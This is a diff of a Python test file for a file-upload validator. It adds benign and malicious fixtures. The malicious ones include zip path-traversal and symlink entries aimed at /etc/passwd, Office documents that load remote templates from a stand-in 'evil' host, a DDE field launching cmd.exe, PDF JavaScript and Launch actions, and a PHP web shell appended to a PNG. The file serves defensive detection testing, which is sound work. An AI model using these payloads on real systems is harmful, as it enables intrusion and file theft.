@@ -69,6 +69,64 @@ def mp3(tag: bytes = b"ID3\x03\x00\x00\x00\x00\x00\x05hello") -> bytes:
 
 
 PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
+
+
+def pdf(body: bytes = b"<< /Type /Catalog >>") -> bytes:
+    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer <<>>\n%%EOF\n"
+
+
+def packed_objects(objects: bytes) -> bytes:
+    """A PDF whose objects lie compressed in a stream, as most programs write them."""
+    stream = zlib.compress(objects)
+    return pdf(b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
+
+
+def with_members(document: bytes, named: dict[str, bytes | str]) -> bytes:
+    """The zipped document with these parts added or replaced."""
+    packed = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(document)) as before, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as after:
+        for name in before.namelist():
+            if name not in named:
+                after.writestr(name, before.read(name))
+        for name, content in named.items():
+            after.writestr(name, content)
+    return packed.getvalue()
+
+
+def zip_of(*members: tuple[str, bytes]) -> bytes:
+    """A zip file with members of any name."""
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return packed.getvalue()
+
+
+def relations(kind: str, target: str, mode: str = "External") -> str:
+    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{types}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+    )
+
+
+def _related(document: bytes, where: str, *about: str) -> bytes:
+    return with_members(document, {where: relations(*about)})
+
+
+def _link() -> bytes:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        link = zipfile.ZipInfo("a.pdf")
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, "/etc/passwd")
+    return packed.getvalue()
+
+
+_WORD, _EXCEL = saved(Document()), saved(Workbook())
+_WORD_LINKS = "word/_rels/document.xml.rels"
+_MACROS_IN_WORD = with_members(_WORD, {"word/vbaProject.bin": b"x"})
+_FIELD = "<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:document>"
 TRUE_FILES = {
     "现场照片.JPG": jpg(),
     "a.jpeg": jpg(),
@@ -81,6 +139,24 @@ TRUE_FILES = {
     "h.mp3": mp3(),
     "i.mp3": mp3(tag=b""),
     "j.zip": zipped(a__pdf=PDF, b___c__txt="x"),
+    # as producers, servers and scanners really leave them
+    "late.pdf": b"\r\n" + PDF,
+    "mark.pdf": b"\xef\xbb\xbf" + PDF,
+    "answer-of-a-server.pdf": b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + PDF,
+    "zeros.pdf": PDF + b"\0" * 4096,
+    "remark.pdf": PDF + b"%" + b"x" * 3000,
+    "opens-at-a-page.pdf": pdf(b"<< /Type /Catalog /OpenAction [3 0 R /FitH 0] /Lang (zh) >>"),
+    "packed.pdf": packed_objects(b"2 0 << /Type /Catalog /Pages 3 0 R >>"),
+    "picture-in-it.pdf": pdf(b"<< /Length 9 >>\nstream\n\x00/JS \xff/Jx\nendstream"),
+    "motion.jpg": jpg() + b"\0\0\0\x18ftypmp42" + b"film" * 300,
+    "padded.png": png() + b"\0\0\n",
+    "chart.docx": with_members(_WORD, {"word/embeddings/Workbook1.xlsx": _EXCEL}),
+    "link.docx": _related(_WORD, _WORD_LINKS, "hyperlink", "https://example.gov.cn"),
+    "drawing.docx": with_members(_WORD, {"word/media/image1.svg": "<svg/>"}),
+    "printer.xlsx": with_members(_EXCEL, {"xl/printerSettings/printerSettings1.bin": b"x"}),
+    "mac.zip": zip_of(("证据/a.pdf", PDF), ("__MACOSX/证据/._a.pdf", b"\0\5\x16\7x"), (".DS_Store", b"\0\0\0\1Bud1")),
+    "windows.zip": zip_of(("证据\\照片.jpg", jpg()), ("证据\\说明.TXT", b"text")),
+    "documents.zip": zip_of(("a.docx", _WORD), ("b.xlsx", _EXCEL)),
 }
 
 
@@ -96,7 +172,6 @@ _MACRO = {"[Content_Types].xml": "macroEnabled", "word/document.xml": "<w/>"}
 FALSE_FILES = {
     "page.pdf": b"<html><script>alert(1)</script></html>",
     "cut.pdf": PDF[:20],
-    "late.pdf": b"\n" + PDF,
     "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
     "wrong-sum.png": png()[:-5] + b"\0" + png()[-4:],
     "cut.png": png()[:-12],
@@ -132,6 +207,60 @@ FALSE_FILES = {
     "text.mp3": b"ID3 is how it begins",
     "one-frame.mp3": mp3(tag=b"")[:417],
     "noise.mp3": b"\xff\xff\xff\xff" * 300,
+    # names that Windows writes otherwise, and what is unpacked elsewhere
+    "blank.zip": zip_of(("x.exe ", b"MZ")),
+    "dot.zip": zip_of(("x.exe.", b"MZ")),
+    "dots.zip": zip_of(("a.pdf", PDF), ("x.exe. . ", b"MZ")),
+    "stream.zip": zip_of(("a.txt:x.exe", b"MZ")),
+    "script.zip": zip_of(("x.jse", b"x")),
+    "host.zip": zip_of(("x.wsf", b"x")),
+    "old.zip": zip_of(("x.pif", b"MZ")),
+    "disc.zip": zip_of(("x.iso", b"x")),
+    "xml-page.zip": zip_of(("x.xhtml", b"<html/>")),
+    "unknown.zip": zip_of(("x.foo", b"x")),
+    "bare.zip": zip_of(("README", b"x")),
+    "nested.zip": zip_of(("inner.zip", zip_of(("x.exe", b"MZ")))),
+    "up.zip": zip_of(("../../etc/passwd.txt", b"x")),
+    "up-windows.zip": zip_of(("a\\..\\..\\x.txt", b"x")),
+    "root.zip": zip_of(("/etc/x.txt", b"x")),
+    "drive.zip": zip_of(("C:/x.txt", b"x")),
+    "link.zip": _link(),
+    "disguised.zip": zip_of(("photo.jpg", b"MZ\x90\x00")),
+    "disguised-text.zip": zip_of(("notes.txt", b"MZ\x90\x00")),
+    "macros-inside.zip": zip_of(("a.docx", _MACROS_IN_WORD)),
+    "tail.zip": zipped(a__pdf=PDF) + b"<html>",
+    # documents that load or start something
+    "template.docx": _related(_WORD, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil/x.dotm"),
+    "picture.docx": _related(_WORD, _WORD_LINKS, "image", "http://evil/pixel.png"),
+    "frame.docx": _related(_WORD, "word/_rels/webSettings.xml.rels", "frame", "//evil/x"),
+    "outside.xlsx": _related(_EXCEL, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "x.xlsx"),
+    "object.docx": with_members(_WORD, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+    "object.xlsx": with_members(_EXCEL, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+    "control.docx": with_members(_WORD, {"word/activeX/activeX1.bin": b"x"}),
+    "page.docx": with_members(_WORD, {"word/afchunk.mht": b"x"}),
+    "chunk.docx": _related(_WORD, _WORD_LINKS, "aFChunk", "afchunk.xml", "Internal"),
+    "inner-macros.docx": with_members(_WORD, {"word/embeddings/Document1.docx": _MACROS_IN_WORD}),
+    "field.docx": with_members(_WORD, {"word/document.xml": _FIELD}),
+    "entity.docx": with_members(_WORD, {_WORD_LINKS: '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
+    # PDFs that start something, and files of two kinds
+    "script.pdf": pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
+    "written-otherwise.pdf": pdf(b"<< /OpenAction << /S /J#61vaScript /#4aS (x) >> >>"),
+    "packed-script.pdf": packed_objects(b"2 0 << /S /JavaScript /JS (x) >>"),
+    "launch.pdf": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
+    "carrier.pdf": pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> /Type /EmbeddedFile >>"),
+    "film.pdf": pdf(b"<< /Subtype /RichMedia >>"),
+    "page-behind.pdf": PDF + b"<html><script>x()</script></html>",
+    "page-before.pdf": b"<html><!--\n" + PDF,
+    "page-within.pdf": PDF.replace(b"1 0 obj", b"<script>x()</script>\n1 0 obj"),
+    "archive-behind.pdf": PDF + zipped(a__txt="x"),
+    "program-before.pdf": b"MZ" + b"\0" * 60 + PDF,
+    "far-too-late.pdf": b"\n" * 2000 + PDF,
+    "end-far-away.pdf": PDF + b"\0" * 70_000,
+    "php.png": png() + b"<?php system($_GET[0]); ?>",
+    "archive.png": png() + zipped(a__txt="x"),
+    "php.jpg": jpg() + b"<?php x(); ?>",
+    "archive.jpg": jpg() + zipped(a__txt="x"),
+    "archive.mp3": mp3() + zipped(a__txt="x"),
     "page.html": b"<html>",
     "drawing.svg": b"<svg/>",
     "run.exe": b"MZ",
